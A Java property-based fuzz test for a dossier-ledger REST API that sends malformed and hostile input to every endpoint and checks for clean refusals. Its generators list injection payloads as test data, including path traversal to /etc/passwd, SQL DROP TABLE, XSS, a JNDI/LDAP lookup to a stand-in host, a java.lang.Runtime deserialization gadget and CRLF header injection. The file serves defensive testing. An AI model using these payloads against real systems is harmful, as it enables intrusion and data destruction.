package vn.dossierledger.app;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.atomic.AtomicInteger;

import com.fasterxml.jackson.core.JsonPointer;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.databind.node.TextNode;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Example;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import net.jqwik.api.lifecycle.AfterContainer;

import vn.dossierledger.app.ApiDescription.Operation;
import vn.dossierledger.app.ApiDescription.Parameter;
import vn.dossierledger.app.RawHttp.Answer;
import vn.dossierledger.app.elasticsearch.ElasticsearchTestServer;

/**
 * Bad input, generated (jqwik), on every operation of the API description the running
 * application serves ({@link ApiDescription}), so that a new endpoint is fuzzed without
 * being named here: malformed JSON, wrong types, missing required and unknown fields,
 * strings and lists over their limits, Unicode edge cases, out-of-range and malformed
 * dates and numbers, injection in path and query parameters, CR/LF and garbage in
 * headers, wrong content types and bodies over the size limit. Each request goes with the
 * token of a role that may call the operation ({@code x-access}), against a dossier
 * created first, byte for byte as generated ({@link RawHttp}).
 * <p>
 * Whatever is sent: never a 5xx; every 4xx is problem+json; a 400 for a field or
 * parameter that was made bad names it; a refused request stores no event. Tries per
 * property: jqwik's {@code jqwik.tries.default} (app's {@code junit-platform.properties},
 * or {@code -Djqwik.tries.default=…}); the total is printed at the end. Each event store
 * the application supports runs the same properties: {@link BadInputFuzzIT} on H2,
 * {@link BadInputFuzzPostgresIT} on PostgreSQL.
 */
abstract class BadInputFuzz {

	private static final ObjectMapper JSON = new ObjectMapper();

	private static final String OFFICER = BirthRegistration.RECEIVING_OFFICER;

	private static final String CITIZEN = BirthRegistration.APPLICANT;

	private static final Map<String, String> PERSON_OF_ROLE = Map.of("OFFICER", OFFICER, "CITIZEN", CITIZEN,
			"INSPECTOR", LedgerApi.INSPECTOR, "ANALYST", LedgerApi.ANALYST, "ADMIN", LedgerApi.ADMIN, "PAYMENT_GATEWAY",
			"NATIONAL_PORTAL");

	/** The request body limit of application.yml, which a body over it must meet. */
	private static final int BODY_LIMIT = 2 * 1024 * 1024;

	/**
	 * Optional parameters of which a request must give one: the valid request gives this.
	 */
	private static final List<String> ONE_OF_IS_REQUIRED = List.of("sequence");

	/** Stands for a value spliced into the written JSON as raw bytes. */
	private static final String SPLICE = "\u0001splice\u0001";

	private static final AtomicInteger CASES = new AtomicInteger();

	private static LedgerApplication application;

	private static RawHttp http;

	private static Tokens tokens;

	private static ApiDescription description;

	private static List<Operation> operations;

	/** A value for each path, query and header parameter that the application accepts. */
	private static final Map<String, String> VALID = new LinkedHashMap<>();

	private static long startedAtMillis;

	/**
	 * Starts the application on the given store, with a dossier to fuzz the commands and
	 * reads of.
	 */
	static void startTheLedgerWithADossier(Map<String, Object> store) throws IOException {
		startedAtMillis = System.currentTimeMillis();
		CASES.set(0);
		VALID.clear();
		Path data = Files.createTempDirectory(Files.createDirectories(Path.of("target", "it-data")), "fuzz-");
		Map<String, Object> properties = new LinkedHashMap<>(store);
		properties.put("dossier-ledger.data-dir", data.toAbsolutePath());
		// With the search index, whose queries take text straight from the request.
		properties.put("dossier-ledger.elasticsearch.url", ElasticsearchTestServer.url());
		application = LedgerApplication.start(properties);
		http = new RawHttp(application.port());
		tokens = application.tokens();
		LedgerApi api = application.api();
		DossierWalk dossier = DossierWalk.submit(api).receive();
		VALID.put("dossierId", dossier.dossierId());
		VALID.put("sequenceIdentifier", dossier.dossierId());
		VALID.put("dossierCode", dossier.dossierCode());
		VALID.put("X-Lookup-Secret", dossier.lookupSecret());
		VALID.put("subjectRef", CITIZEN);
		VALID.put("officerId", OFFICER);
		VALID.put("unitId", "hn-phk-1c");
		VALID.put("processingGroup", "dossier-status");
		VALID.put("transactionId", "TX-FUZZ-1");
		VALID.put("flagId", "no-such-flag");
		VALID.put("eventId",
				application.eventStore()
					.jdbc()
					.queryForObject("select min(event_identifier) from domain_event_entry", String.class));
		VALID.put("treeSize", "1");
		VALID.put("sequence", "0");
		VALID.put("purpose", "fuzzing");
		VALID.put("by", "agency");
		VALID.put("indicator", "onTime");
		VALID.put("figure", "onTime");
		description = new ApiDescription(JSON.readTree(api.anonymous().download("/v3/api-docs")));
		operations = description.operations();
		assertThat(operations).as("the operations of /v3/api-docs").hasSizeGreaterThan(30);
	}

	@AfterContainer
	static void stopAndReport() {
		System.out.printf("BadInputFuzz: %d fuzz cases on %d operations in %d s%n", CASES.get(),
				(operations != null) ? operations.size() : 0, (System.currentTimeMillis() - startedAtMillis) / 1000);
		if (application != null) {
			application.close();
		}
	}

	@Property
	void malformedJsonIsRefusedWithAProblem(@ForAll("malformedJson") Fuzz fuzz) {
		assertRefusedProperly(fuzz);
	}

	@Property
	void aFieldOfTheWrongTypeIsNamedWhenRefused(@ForAll("wrongTypes") Fuzz fuzz) {
		assertRefusedProperly(fuzz);
	}

	@Property
	void aMissingRequiredFieldIsRefusedNamingIt(@ForAll("missingRequiredFields") Fuzz fuzz) {
		Answer answer = assertRefusedProperly(fuzz);
		assertThat(answer.status()).as("%s answered %s", fuzz, answer).isEqualTo(400);
	}

	@Property
	void anUnknownFieldIsIgnoredOrRefusedNamingIt(@ForAll("unknownFields") Fuzz fuzz) {
		assertRefusedProperly(fuzz);
	}

	@Property
	void aStringOrListOverItsLimitIsRefusedNamingIt(@ForAll("oversizedFields") Fuzz fuzz) {
		Answer answer = assertRefusedProperly(fuzz);
		if (fuzz.overADocumentedLimit()) {
			assertThat(answer.status()).as("%s answered %s", fuzz, answer).isEqualTo(400);
		}
	}

	@Property
	void unicodeEdgeCasesNeverFailTheServer(@ForAll("unicodeEdgeCases") Fuzz fuzz) {
		assertRefusedProperly(fuzz);
	}

	@Property
	void extremeOrMalformedDatesAndNumbersNeverFailTheServer(@ForAll("datesAndNumbers") Fuzz fuzz) {
		assertRefusedProperly(fuzz);
	}

	@Property
	void injectedOrOverlongParametersNeverFailTheServer(@ForAll("injectedParameters") Fuzz fuzz) {
		assertRefusedProperly(fuzz);
	}

	@Property
	void garbageHeadersAndContentTypesNeverFailTheServer(@ForAll("badHeaders") Fuzz fuzz) {
		assertRefusedProperly(fuzz);
	}

	@Property(tries = 10)
	void aBodyOverTheSizeLimitIsRefusedAs413(@ForAll("oversizedBodies") Fuzz fuzz) {
		Answer answer = assertRefusedProperly(fuzz);
		assertThat(answer.status()).as("%s answered %s", fuzz, answer).isEqualTo(413);
	}

	/**
	 * The one 5xx that bad input gets, from Tomcat before the application sees it: RFC
	 * 9112 (6.1) asks for 501 when a request's transfer coding is not one the server
	 * knows. Still a problem, and nothing stored.
	 */
	@Example
	void anUnknownTransferCodingIsAnswered501AsRfc9112Asks() {
		Fuzz fuzz = baseline(withBody().get(0)).withHeader("Transfer-Encoding", "gzip", "Transfer-Encoding: gzip");
		long eventsBefore = application.eventStore().eventCount();

		Answer answer = send(fuzz);

		assertThat(answer.status()).as("%s answered %s", fuzz, answer).isEqualTo(501);
		assertThat(answer.contentType()).startsWith("application/problem+json");
		assertThat(application.eventStore().eventCount()).isEqualTo(eventsBefore);
	}

	/**
	 * Sends the request and checks what every answer must be.
	 */
	private static Answer assertRefusedProperly(Fuzz fuzz) {
		long eventsBefore = application.eventStore().eventCount();
		Answer answer = send(fuzz);
		assertThat(answer.status()).as("%s answered %s", fuzz, answer).isLessThan(500);
		if (answer.status() < 400) {
			return answer;
		}
		assertThat(answer.contentType()).as("%s answered %s", fuzz, answer).startsWith("application/problem+json");
		JsonNode problem = readProblem(fuzz, answer);
		assertThat(problem.path("type").asText()).as("%s answered %s", fuzz, answer)
			.startsWith("https://dossier-ledger.vn/problems/");
		assertThat(problem.path("status").asInt()).as("%s answered %s", fuzz, answer).isEqualTo(answer.status());
		assertThat(problem.path("title").asText()).as("%s answered %s", fuzz, answer).isNotBlank();
		assertThat(problem.path("detail").asText()).as("%s answered %s", fuzz, answer).isNotBlank();
		if (fuzz.blamed() != null && answer.status() == 400 && !problem.path("type").asText().endsWith("/bad-request")
				&& !namesAnotherEndOfARange(fuzz, problem)) {
			assertThat(namedIn(problem)).as("%s answered %s, which does not name %s", fuzz, answer, fuzz.blamed())
				.anySatisfy((named) -> assertThat(within(named, fuzz.blamed())).as(named).isTrue());
		}
		assertThat(application.eventStore().eventCount()).as("events stored after %s answered %s", fuzz, answer)
			.isEqualTo(eventsBefore);
		return answer;
	}

	private static JsonNode readProblem(Fuzz fuzz, Answer answer) {
		try {
			return JSON.readTree(answer.body());
		}
		catch (IOException ex) {
			throw new AssertionError(fuzz + " answered a problem that is no JSON: " + answer, ex);
		}
	}

	/**
	 * A rule between two parameters (from ≤ to) names the end it chose, which may be the
	 * other one: a problem of its own type naming another parameter of the operation.
	 */
	private static boolean namesAnotherEndOfARange(Fuzz fuzz, JsonNode problem) {
		String type = problem.path("type").asText();
		String named = problem.path("parameter").asText();
		return !type.endsWith("/invalid-parameter") && !type.endsWith("/invalid-request")
				&& fuzz.operation().parameters().stream().anyMatch((parameter) -> parameter.name().equals(named));
	}

	/** The fields and parameters a problem names. */
	private static List<String> namedIn(JsonNode problem) {
		List<String> named = new ArrayList<>(problem.path("errors").findValuesAsText("field"));
		if (problem.hasNonNull("parameter")) {
			named.add(problem.path("parameter").asText());
		}
		return named;
	}

	/** Whether the named field is the blamed one or inside it. */
	private static boolean within(String named, String blamed) {
		return named.equalsIgnoreCase(blamed) || named.startsWith(blamed + ".") || named.startsWith(blamed + "[");
	}

	private static Answer send(Fuzz fuzz) {
		CASES.incrementAndGet();
		return http.send(fuzz.operation().method(), fuzz.target(), fuzz.headers(), fuzz.body());
	}

	// ---- Generators

	@Provide
	Arbitrary<Fuzz> malformedJson() {
		return Arbitraries.of(withBody()).flatMap((operation) -> {
			Fuzz valid = baseline(operation);
			byte[] body = valid.body();
			List<byte[]> fixed = new ArrayList<>();
			for (String text : List.of("", " ", "{", "}", "[", "]", "null", "true", "42", "\"text\"", "[]", "[{}]",
					"{\"a\":}", "{'a': 1}", "{a: 1}", "{\"a\": 1,}", "{\"a\": NaN}", "{\"a\": Infinity}",
					"{\"a\": 1e999999}", "{\"a\": 0x10}", "/* comment */ {}", "{\"a\": \"\\x41\"}",
					"{\"a\": \"unterminated}", "{\"a\": \"\t\"}", "{\"a\": 1, \"a\": 2}")) {
				fixed.add(text.getBytes(StandardCharsets.UTF_8));
			}
			fixed.add(("[".repeat(100_000) + "]".repeat(100_000)).getBytes(StandardCharsets.UTF_8));
			fixed.add(("{\"a\":".repeat(20_000) + "1" + "}".repeat(20_000)).getBytes(StandardCharsets.UTF_8));
			fixed.add(concat(body, "garbage".getBytes(StandardCharsets.UTF_8)));
			fixed.add(concat(body, "}".getBytes(StandardCharsets.UTF_8)));
			fixed.add(concat(body, body));
			fixed.add(concat(new byte[] { (byte) 0xEF, (byte) 0xBB, (byte) 0xBF }, body));
			fixed.add(new String(body, StandardCharsets.UTF_8).getBytes(StandardCharsets.UTF_16));
			fixed.add(new byte[] { (byte) 0xFF, (byte) 0xFE, 0, 0 });
			Arbitrary<byte[]> truncated = Arbitraries.integers()
				.between(0, Math.max(0, body.length - 1))
				.map((length) -> Arrays.copyOf(body, length));
			Arbitrary<byte[]> randomBytes = Arbitraries.bytes().list().ofMaxSize(200).map((list) -> {
				byte[] bytes = new byte[list.size()];
				for (int i = 0; i < bytes.length; i++) {
					bytes[i] = list.get(i);
				}
				return bytes;
			});
			return Arbitraries.oneOf(Arbitraries.of(fixed), truncated, randomBytes)
				.map((bytes) -> valid.withBody(bytes, "malformed JSON"));
		});
	}

	@Provide
	Arbitrary<Fuzz> wrongTypes() {
		return fieldOfABody().flatMap((field) -> {
			String type = ApiDescription.typeOf(field.schema());
			List<String> values = new ArrayList<>();
			for (String value : List.of("12345", "\"fuzz\"", "true", "[]", "[1, 2]", "{}", "{\"x\": 1}", "null", "1.5",
					"-1")) {
				boolean sameType = switch (type) {
					case "string" -> value.startsWith("\"");
					case "integer", "number" -> value.matches("-?[0-9.]+");
					case "boolean" -> value.equals("true");
					case "array" -> value.startsWith("[");
					case "object" -> value.startsWith("{");
					default -> false;
				};
				if (!sameType) {
					values.add(value);
				}
			}
			return Arbitraries.of(values)
				.map((value) -> field.fuzz().replacing(field, value, "wrong type " + value + " for " + field.name()));
		});
	}

	@Provide
	Arbitrary<Fuzz> missingRequiredFields() {
		List<BodyField> required = allBodyFields().stream().filter(BodyField::required).toList();
		return anyOf(required).map((field) -> field.fuzz().removing(field));
	}

	@Provide
	Arbitrary<Fuzz> unknownFields() {
		Arbitrary<String> names = Arbitraries.of("unknown", "actor", "actingOfficer", "role", "@type", "__proto__",
				"constructor", "class", "$where", "", "a.b", "Tên trường", "x".repeat(10_000));
		Arbitrary<String> values = Arbitraries.of("1", "\"x\"", "null", "{\"@class\": \"java.lang.Runtime\"}",
				"[\"java.util.HashMap\", {}]", "true");
		return Arbitraries.of(withBody())
			.flatMap((operation) -> Arbitraries.of(objectsIn(baseline(operation)))
				.flatMap((object) -> names.flatMap((name) -> values.map((value) -> object.fuzz()
					.adding(object, name, value, "unknown field " + abbreviated(name, 40) + " in " + object.name())))));
	}

	@Provide
	Arbitrary<Fuzz> oversizedFields() {
		List<BodyField> sized = allBodyFields().stream()
			.filter((field) -> ApiDescription.typeOf(field.schema()).equals("array")
					|| (ApiDescription.typeOf(field.schema()).equals("string") && !field.schema().has("enum")))
			.toList();
		return anyOf(sized).flatMap((field) -> {
			JsonNode schema = field.schema();
			if (ApiDescription.typeOf(schema).equals("array")) {
				int limit = schema.path("maxItems").asInt(0);
				Arbitrary<Integer> sizes = (limit > 0) ? Arbitraries.integers().between(limit + 1, limit + 30)
						: Arbitraries.of(1_000, 10_000);
				return sizes.map((size) -> {
					JsonNode element = field.value().isArray() && !field.value().isEmpty() ? field.value().get(0)
							: TextNode.valueOf("x");
					ArrayNode list = JsonNodeFactory.instance.arrayNode();
					for (int i = 0; i < size; i++) {
						list.add(element);
					}
					return field.fuzz()
						.replacing(field, list.toString(), size + " elements in " + field.name())
						.overLimit(limit > 0);
				});
			}
			int limit = schema.path("maxLength").asInt(0);
			Arbitrary<Integer> lengths = (limit > 0) ? Arbitraries.integers().between(limit + 1, limit * 4 + 10)
					: Arbitraries.of(10_000, 500_000);
			Arbitrary<String> letters = Arbitraries.of("x", "ệ", "😀", " ");
			return lengths.flatMap((length) -> letters.map((letter) -> field.fuzz()
				.replacing(field, quoted(repeatToLength(letter, length)),
						length + " chars of '" + letter + "' in " + field.name())
				.overLimit(limit > 0 && !letter.equals(" "))));
		});
	}

	@Provide
	Arbitrary<Fuzz> unicodeEdgeCases() {
		List<BodyField> strings = allBodyFields().stream()
			.filter((field) -> ApiDescription.typeOf(field.schema()).equals("string"))
			.toList();
		Arbitrary<byte[]> literal = Arbitraries.oneOf(Arbitraries.of(unicodeLiterals()),
				Arbitraries.integers()
					.between(1, 20_000)
					.map((marks) -> ("\"a" + "\\u0301".repeat(marks) + "\"").getBytes(StandardCharsets.UTF_8)),
				Arbitraries.strings()
					.all()
					.ofMaxLength(60)
					.map((text) -> quoted(text).getBytes(StandardCharsets.UTF_8)));
		return anyOf(strings).flatMap((field) -> literal.map((bytes) -> field.fuzz()
			.splicing(field, bytes,
					"Unicode " + abbreviated(new String(bytes, StandardCharsets.UTF_8), 60) + " in " + field.name())));
	}

	@Provide
	Arbitrary<Fuzz> datesAndNumbers() {
		List<String> instants = List.of("\"-999999999-01-01T00:00:00Z\"", "\"+999999999-12-31T23:59:59.999999999Z\"",
				"\"0000-01-01T00:00:00Z\"", "\"0001-01-01T00:00:00Z\"", "\"1900-01-01T00:00:00Z\"",
				"\"2100-01-01T00:00:00Z\"", "\"9999-12-31T23:59:59Z\"", "\"2026-02-30T00:00:00Z\"",
				"\"2026-13-01T00:00:00Z\"", "\"2026-12-01T25:61:61Z\"", "\"2026-12-01\"",
				"\"2026-12-01T00:00:00+99:00\"", "\"\"", "\"yesterday\"", "\"1970-01-01T00:00:00Z\"",
				"99999999999999999999", "-1", "1e400", "\"2026-12-01T00:00:00.123456789123Z\"");
		List<String> dates = List.of("\"-999999999-01-01\"", "\"+999999999-12-31\"", "\"0000-00-00\"", "\"2026-02-29\"",
				"\"2024-02-29\"", "\"10000-01-01\"", "\"1800-01-01\"", "\"2999-12-31\"", "\"\"", "\"2026-1-1\"",
				"\"01/12/2026\"", "20261201", "\"2026-12-01T00:00:00Z\"");
		List<String> numbers = List.of("-1", "0", "-9223372036854775808", "9223372036854775807", "9223372036854775808",
				"-9223372036854775809", "123456789012345678901234567890", "1e400", "-1e400", "1.5", "-0", "2147483647",
				"2147483648", "-2147483648", "-2147483649", "1000000", "\"12\"", "1E3", "0.0000000001");
		List<BodyField> bodyFields = allBodyFields().stream()
			.filter((field) -> List.of("integer", "number").contains(ApiDescription.typeOf(field.schema()))
					|| field.schema().has("format") && field.schema().path("format").asText().startsWith("date"))
			.toList();
		Arbitrary<Fuzz> inBodies = anyOf(bodyFields).flatMap((field) -> {
			String format = field.schema().path("format").asText();
			List<String> values = format.equals("date-time") ? instants : format.equals("date") ? dates : numbers;
			return Arbitraries.of(values)
				.map((value) -> field.fuzz().replacing(field, value, value + " for " + field.name()));
		});
		List<ParameterSlot> parameters = allParameters().stream()
			.filter((slot) -> List.of("integer", "number").contains(ApiDescription.typeOf(slot.parameter().schema()))
					|| slot.parameter().schema().path("format").asText().startsWith("date"))
			.toList();
		Arbitrary<Fuzz> inParameters = anyOf(parameters).flatMap((slot) -> {
			String format = slot.parameter().schema().path("format").asText();
			List<String> values = format.equals("date-time") ? instants : format.equals("date") ? dates : numbers;
			return Arbitraries.of(values)
				.map((value) -> slot.fuzz()
					.withParameter(slot.parameter(), encoded(value.replace("\"", "")),
							value + " for parameter " + slot.parameter().name()));
		});
		return Arbitraries.oneOf(inBodies, inParameters);
	}

	@Provide
	Arbitrary<Fuzz> injectedParameters() {
		List<String> values = List.of("..", "../..", "../../etc/passwd", "%2e%2e%2f", "\u0000", "a\u0000b",
				"' OR '1'='1", "1; DROP TABLE domain_event_entry; --", "\" OR \"\"=\"", "$..*", "$[?(@.x == 1)]",
				"{\"$ne\": null}", "<script>alert(1)</script>", "${jndi:ldap://example.invalid/a}", "%s%n%x", "*", "",
				" ", "\t", "\u202eabc", "😀", "a/b", "a\\b", "a;b=c", "a?b", "a#b", "CON", "x".repeat(100),
				"x".repeat(1_000), "x".repeat(5_000), "x".repeat(20_000));
		List<String> raw = List.of("..", "../x", "%00", "%zz", "%", "%2F", "%5C", ";jsessionid=1", "%C0%AF",
				"%ED%A0%80", "%FF", "a%0D%0AX-Injected:%20yes");
		Arbitrary<Fuzz> encodedValues = Arbitraries.of(allParameters())
			.flatMap((slot) -> Arbitraries.of(values)
				.map((value) -> slot.fuzz()
					.withParameter(slot.parameter(),
							slot.parameter().in().equals("header") ? value.replace("\u0000", "") : encoded(value),
							"parameter " + slot.parameter().name() + " = " + abbreviated(value, 60))));
		Arbitrary<Fuzz> rawValues = Arbitraries
			.of(allParameters().stream().filter((slot) -> !slot.parameter().in().equals("header")).toList())
			.flatMap((slot) -> Arbitraries.of(raw)
				.map((value) -> slot.fuzz()
					.withParameter(slot.parameter(), value, "raw parameter " + slot.parameter().name() + " = " + value)
					.blaming(null)));
		return Arbitraries.oneOf(encodedValues, rawValues);
	}

	@Provide
	Arbitrary<Fuzz> badHeaders() {
		List<String> ifMatches = List.of("version seven", "\"abc\"", "W/\"x\"", "\"-1\"", "\"-9223372036854775808\"",
				"\"99999999999999999999\"", "\"1\", \"2\"", "\"\"", "W/", "\"1\r\nX-Injected: yes\"", "\"1\rX: y\"",
				"\"1\nX: y\"", "\"" + "9".repeat(10_000) + "\"", "\"1\u0000\"", "\"ệ\"", "\"1\"\t");
		List<String[]> others = List.of(new String[] { "Accept", "application/xml" },
				new String[] { "Accept", "*/*;q=abc" }, new String[] { "Accept", "text/html, image/png" },
				new String[] { "Accept", ";;;" }, new String[] { "Authorization", "Bearer garbage" },
				new String[] { "Authorization", "Bearer " + "a".repeat(7_000) },
				new String[] { "Authorization", "Basic ZGVtbw==" }, new String[] { "X-Fuzz", "a".repeat(20_000) },
				new String[] { "X-Fuzz", "a\r\nX-Injected: yes" }, new String[] { "X-Fuzz", "\u0000" },
				new String[] { "Content-Length", "-1" }, new String[] { "Content-Length", "99999999999999999999" },
				new String[] { "Content-Encoding", "gzip" }, new String[] { "X-Forwarded-For", "' OR 1=1 --" },
				new String[] { "Expect", "100-continue" }, new String[] { "Content-Type", "text/plain" },
				new String[] { "Content-Type", "application/xml" },
				new String[] { "Content-Type", "application/x-www-form-urlencoded" },
				new String[] { "Content-Type", "multipart/form-data" },
				new String[] { "Content-Type", "application/json; charset=UTF-16" },
				new String[] { "Content-Type", "application/json; charset=nonsense" },
				new String[] { "Content-Type", "application/json; charset=" },
				new String[] { "Content-Type", "application/json;;;" }, new String[] { "Content-Type", "*/*" },
				new String[] { "Content-Type", "application/*" }, new String[] { "Content-Type", "" },
				new String[] { "Content-Type", "garbage" },
				new String[] { "Content-Type", "application/json\r\nX: y" });
		List<Operation> withIfMatch = operations.stream()
			.filter((operation) -> operation.in("header").stream().anyMatch((p) -> p.name().equals("If-Match")))
			.toList();
		Arbitrary<Fuzz> ifMatch = anyOf(withIfMatch).flatMap((operation) -> Arbitraries.of(ifMatches)
			.map((value) -> baseline(operation).withHeader("If-Match", value, "If-Match " + abbreviated(value, 40))));
		Arbitrary<Fuzz> other = Arbitraries.of(operations)
			.flatMap((operation) -> Arbitraries.of(others)
				.map((header) -> baseline(operation).withHeader(header[0], header[1],
						header[0] + ": " + abbreviated(header[1], 40))));
		Arbitrary<Fuzz> noContentType = Arbitraries.of(withBody())
			.map((operation) -> baseline(operation).withoutHeader("Content-Type", "no Content-Type"));
		return Arbitraries.oneOf(ifMatch, other, noContentType);
	}

	@Provide
	Arbitrary<Fuzz> oversizedBodies() {
		return Arbitraries.of(withBody())
			.flatMap((operation) -> Arbitraries.integers().between(BODY_LIMIT + 1, BODY_LIMIT + 200_000).map((size) -> {
				Fuzz valid = baseline(operation);
				String padding = "x".repeat(size);
				return valid.withBody(("{\"padding\": \"" + padding + "\"}").getBytes(StandardCharsets.UTF_8),
						"a body of " + size + " bytes");
			}));
	}

	/** One of these, which the API description must have some of. */
	private static <T> Arbitrary<T> anyOf(List<T> candidates) {
		assertThat(candidates).as("candidates found in /v3/api-docs").isNotEmpty();
		return Arbitraries.of(candidates);
	}

	// ---- Valid requests, the starting points

	private static List<Operation> withBody() {
		return operations.stream().filter((operation) -> operation.bodySchema() != null).toList();
	}

	/**
	 * The request each operation accepts from its caller, before anything is made bad.
	 */
	private static Fuzz baseline(Operation operation) {
		String caller = callerOf(operation);
		Map<String, String> pathValues = new LinkedHashMap<>();
		Map<String, String> query = new LinkedHashMap<>();
		List<String[]> headers = new ArrayList<>();
		if (caller != null) {
			headers.add(new String[] { "Authorization", "Bearer " + tokens.tokenFor(caller) });
		}
		for (Parameter parameter : operation.parameters()) {
			String value = validValue(parameter);
			switch (parameter.in()) {
				case "path" -> pathValues.put(parameter.name(), encoded(value));
				case "query" -> {
					if (parameter.required() || ONE_OF_IS_REQUIRED.contains(parameter.name())) {
						query.put(parameter.name(), encoded(value));
					}
				}
				case "header" -> {
					if (parameter.required()) {
						headers.add(new String[] { parameter.name(), value });
					}
				}
				default -> {
				}
			}
		}
		if (operation.method().equals("GET") && caller != null && !query.containsKey("purpose")) {
			// The access audit asks an official's reads of a case for a purpose (not an
			// operation's parameter: the audit's own); others ignore it.
			query.put("purpose", "fuzzing");
		}
		byte[] body = null;
		JsonNode bodyTree = null;
		if (operation.bodySchema() != null) {
			headers.add(new String[] { "Content-Type", "application/json" });
			bodyTree = example(operation.bodySchema(), "", caller, 0);
			body = bodyTree.toString().getBytes(StandardCharsets.UTF_8);
		}
		return new Fuzz(operation, pathValues, query, headers, bodyTree, body, null, "valid", false);
	}

	private static String callerOf(Operation operation) {
		return switch (operation.who()) {
			case "anyone" -> null;
			case "roles" -> PERSON_OF_ROLE.get(operation.roles().get(0));
			default -> LedgerApi.INSPECTOR;
		};
	}

	private static String validValue(Parameter parameter) {
		if (VALID.containsKey(parameter.name())) {
			return VALID.get(parameter.name());
		}
		JsonNode schema = parameter.schema();
		if (schema.has("enum")) {
			return schema.path("enum").get(0).asText();
		}
		return switch (ApiDescription.typeOf(schema)) {
			case "integer", "number" -> String.valueOf(Math.max(1, schema.path("minimum").asLong(1)));
			case "boolean" -> "true";
			default -> switch (schema.path("format").asText()) {
				case "date" -> "2026-11-01";
				case "date-time" -> "2026-11-01T00:00:00Z";
				default -> "x";
			};
		};
	}

	/**
	 * A value the schema accepts; the people it names are the caller and the dossier's
	 * own, so that a valid request gets past who may act. Null: left out.
	 */
	private static JsonNode example(JsonNode unresolved, String name, String caller, int depth) {
		JsonNode schema = description.resolve(unresolved);
		JsonNodeFactory nodes = JsonNodeFactory.instance;
		switch (name) {
			case "actingOfficerId", "signer" -> {
				return (caller != null && caller.startsWith("hn-")) ? nodes.textNode(caller) : null;
			}
			case "approvedByOfficerId" -> {
				return nodes.textNode(BirthRegistration.APPROVING_LEADER);
			}
			case "toOfficerId" -> {
				return nodes.textNode(BirthRegistration.SPECIALIST);
			}
			case "subjectRef", "submittedBy", "requestedBy", "ratedBy", "recipient" -> {
				return nodes.textNode(CITIZEN);
			}
			case "procedureCode" -> {
				return nodes.textNode(BirthRegistration.PROCEDURE);
			}
			case "componentCode" -> {
				return nodes.textNode("TO_KHAI");
			}
			case "stepCode" -> {
				return nodes.textNode("THAM_DINH");
			}
			case "gateway" -> {
				return nodes.textNode("NATIONAL_PORTAL".equals(caller) ? caller : "CASH_AT_DESK");
			}
			case "score" -> {
				return nodes.numberNode(5);
			}
			default -> {
			}
		}
		if (schema.has("enum")) {
			return schema.path("enum").get(0);
		}
		switch (ApiDescription.typeOf(schema)) {
			case "object" -> {
				ObjectNode object = nodes.objectNode();
				if (depth > 6) {
					return object;
				}
				for (Iterator<Map.Entry<String, JsonNode>> properties = schema.path("properties").fields(); properties
					.hasNext();) {
					Map.Entry<String, JsonNode> property = properties.next();
					JsonNode value = example(property.getValue(), property.getKey(), caller, depth + 1);
					if (value != null) {
						object.set(property.getKey(), value);
					}
				}
				return object;
			}
			case "array" -> {
				ArrayNode array = nodes.arrayNode();
				JsonNode element = example(schema.path("items"), name, caller, depth + 1);
				if (element != null) {
					array.add(element);
				}
				return array;
			}
			case "integer", "number" -> {
				return nodes.numberNode(Math.max(1, schema.path("minimum").asLong(1)));
			}
			case "boolean" -> {
				return nodes.booleanNode(false);
			}
			default -> {
				String pattern = schema.path("pattern").asText();
				if (pattern.contains("0-9a-f")) {
					return nodes.textNode("a".repeat(64));
				}
				if (!pattern.isEmpty()) {
					return null;
				}
				return switch (schema.path("format").asText()) {
					case "date" -> nodes.textNode("1990-01-01");
					case "date-time" -> nodes.textNode("2026-12-31T03:00:00Z");
					case "email" -> nodes.textNode("fuzz@example.vn");
					default -> nodes.textNode("Kiểm thử");
				};
			}
		}
	}

	// ---- The fields and parameters that can be made bad

	private static Arbitrary<BodyField> fieldOfABody() {
		return Arbitraries.of(allBodyFields());
	}

	/** Every field of every operation's valid body, nested ones too. */
	private static List<BodyField> allBodyFields() {
		List<BodyField> fields = new ArrayList<>();
		for (Operation operation : withBody()) {
			Fuzz valid = baseline(operation);
			collectFields(valid, valid.bodyTree(), operation.bodySchema(), "", "", fields);
		}
		return fields;
	}

	private static void collectFields(Fuzz valid, JsonNode value, JsonNode unresolvedSchema, String pointer,
			String name, List<BodyField> fields) {
		JsonNode schema = description.resolve(unresolvedSchema);
		if (value.isObject()) {
			List<String> required = new ArrayList<>();
			schema.path("required").forEach((field) -> required.add(field.asText()));
			for (Iterator<Map.Entry<String, JsonNode>> properties = schema.path("properties").fields(); properties
				.hasNext();) {
				Map.Entry<String, JsonNode> property = properties.next();
				String childPointer = pointer + "/" + property.getKey();
				String childName = name.isEmpty() ? property.getKey() : name + "." + property.getKey();
				JsonNode childSchema = description.resolve(property.getValue());
				JsonNode child = value.path(property.getKey());
				if (child.isMissingNode()) {
					if (required.contains(property.getKey())) {
						fields.add(new BodyField(valid, childPointer, childName, childSchema, true, child));
					}
					continue;
				}
				fields.add(new BodyField(valid, childPointer, childName, childSchema,
						required.contains(property.getKey()), child));
				collectFields(valid, child, childSchema, childPointer, childName, fields);
			}
		}
		else if (value.isArray() && !value.isEmpty()) {
			String childName = name + "[0]";
			JsonNode itemSchema = description.resolve(schema.path("items"));
			fields.add(new BodyField(valid, pointer + "/0", childName, itemSchema, false, value.get(0)));
			collectFields(valid, value.get(0), itemSchema, pointer + "/0", childName, fields);
		}
	}

	/** The objects of a valid body, where an unknown field can go. */
	private static List<BodyField> objectsIn(Fuzz valid) {
		List<BodyField> objects = new ArrayList<>();
		objects.add(new BodyField(valid, "", "", valid.operation().bodySchema(), true, valid.bodyTree()));
		List<BodyField> fields = new ArrayList<>();
		collectFields(valid, valid.bodyTree(), valid.operation().bodySchema(), "", "", fields);
		fields.stream().filter((field) -> field.value().isObject()).forEach(objects::add);
		return objects;
	}

